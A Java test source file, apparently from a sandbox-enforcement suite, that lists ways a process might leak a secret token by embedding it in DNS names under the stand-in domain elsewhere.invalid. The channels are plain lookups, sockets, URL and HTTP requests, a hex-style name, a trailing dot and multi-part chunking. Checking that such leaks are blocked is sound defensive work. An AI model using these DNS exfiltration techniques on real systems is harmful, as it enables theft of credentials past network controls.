package dev.interlock.it.jvm;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.concurrent.Callable;

/**
 * Looking names up: what is asked for reaches servers that anybody may run, whether or not there is an answer. So to be told
 * that nobody knows the name is the effect.
 */
final class NameAttempts {
    private static final String ASK = "network: [{resolve: '**'}, {resolve: '*'}, {resolve: '*.invalid'}]";

    private NameAttempts() {}

    private static Object ask(Callable<Object> question) throws Exception {
        try {
            return question.call();
        } catch (IOException unknown) {
            for (Throwable link = unknown; link != null; link = link.getCause()) {
                if ((link.getMessage() + "").contains(Player.DENIAL)) throw unknown;
            }
            return "asked, but " + unknown;
        }
    }

    /** The secret is in the name. */
    private static String name(Victim victim) {
        return victim.token() + ".elsewhere.invalid";
    }

    @Attempt(needs = ASK, effect = Effect.ANSWERED)
    static Object byName(Victim victim) throws Exception {
        return ask(() -> InetAddress.getByName(name(victim)));
    }

    @Attempt(needs = ASK, effect = Effect.ANSWERED)
    static Object allByName(Victim victim) throws Exception {
        return ask(() -> InetAddress.getAllByName(name(victim)).length);
    }

    @Attempt(needs = ASK, effect = Effect.ASKED, swallows = true)
    static Object socketAddress(Victim victim) throws Exception {
        return ask(() -> new InetSocketAddress(name(victim), 1).isUnresolved());
    }

    @Attempt(needs = ASK, effect = Effect.ASKED)
    static Object socket(Victim victim) throws Exception {
        return ask(() -> new java.net.Socket(name(victim), victim.port()));
    }

    @Attempt(needs = ASK, effect = Effect.ASKED)
    static Object url(Victim victim) throws Exception {
        return ask(() -> URI.create("http://" + name(victim) + "/").toURL().openStream());
    }

    @Attempt(needs = "http: [{url: 'http://*.elsewhere.invalid/**'}]", effect = Effect.ASKED, swallows = true)
    static Object httpClient(Victim victim) throws Exception {
        return ask(() -> HttpClient.newHttpClient()
                .send(
                        HttpRequest.newBuilder(URI.create("http://" + name(victim) + "/"))
                                .build(),
                        HttpResponse.BodyHandlers.ofString()));
    }

    /** No literal to Java, and so a name to be looked up; but the system may take it for a number. */
    @Attempt(needs = ASK, effect = Effect.ANSWERED)
    static Object hexadecimal(Victim victim) throws Exception {
        return ask(() -> InetAddress.getByName("0x7f000002.invalid"));
    }

    @Attempt(needs = ASK, effect = Effect.ANSWERED)
    static Object withADotAtTheEnd(Victim victim) throws Exception {
        return ask(() -> InetAddress.getByName(name(victim) + "."));
    }

    /** Each name of it is long enough for a part of a file. */
    @Attempt(needs = ASK, effect = Effect.ANSWERED)
    static Object manyNames(Victim victim) throws Exception {
        Object last = null;
        for (int i = 0; i < 20; i++) {
            String part = i + "." + name(victim);
            last = ask(() -> InetAddress.getByName(part));
        }
        return last;
    }
}
